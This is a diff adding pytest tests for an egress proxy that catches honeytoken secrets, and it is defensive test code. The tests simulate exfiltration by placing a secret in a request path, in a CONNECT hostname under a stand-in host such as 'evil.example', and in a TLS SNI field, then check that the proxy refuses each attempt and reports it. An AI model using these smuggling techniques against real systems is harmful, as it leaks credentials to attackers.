@@ -1,7 +1,10 @@
 """A honeytoken doesn't get out through the proxy: it is refused, and told without its value."""
 
+import asyncio
 import base64
+import ssl
 from collections.abc import AsyncIterator
+from contextlib import suppress
 from dataclasses import replace
 from typing import Any
 
@@ -71,6 +74,39 @@ async def test_nor_in_the_name_of_a_host_to_tunnel_to(trapped: Egress) -> None:
     await ask(trapped, connect(f"{SECRET}.evil.example:443"))
     told = await found(trapped, "the address of a request")
     assert told["method"] == "CONNECT"
+
+
+@pytest.mark.parametrize(
+    "first",
+    [
+        pytest.param(line("GET", f"http://{ALLOWED}/{SECRET}", host=ALLOWED), id="a request"),
+        pytest.param(line("CONNECT", f"{SECRET}.example:443"), id="a tunnel"),
+    ],
+)
+async def test_nor_in_what_shows_no_token(trapped: Egress, first: bytes) -> None:
+    """Whose it is, is known by the address."""
+    await ask(trapped, first)
+    await found(trapped, "the address of a request")
+
+
+@pytest.mark.parametrize("host", [ALLOWED, "pinned.example"])
+async def test_nor_in_the_name_that_tls_is_asked_for(trapped: Egress, host: str) -> None:
+    context = ssl.create_default_context(cafile=trapped.authority)
+
+    def hello() -> None:
+        with trapped.socket() as sock:
+            sock.sendall(connect(f"{host}:443"))
+            assert b" 200 " in sock.recv(1000)
+            with suppress(OSError):
+                context.wrap_socket(sock, server_hostname=f"{SECRET}.example").close()
+
+    await asyncio.to_thread(hello)
+    await found(trapped, "the SNI of a tunnel")
+
+
+async def test_nor_in_what_is_no_request(trapped: Egress) -> None:
+    await ask(trapped, plain(f"http://{ALLOWED}:99999/{SECRET}"))
+    await found(trapped, "what is no request")
 
 
 @pytest.mark.parametrize("size", [0, 3 << 20])
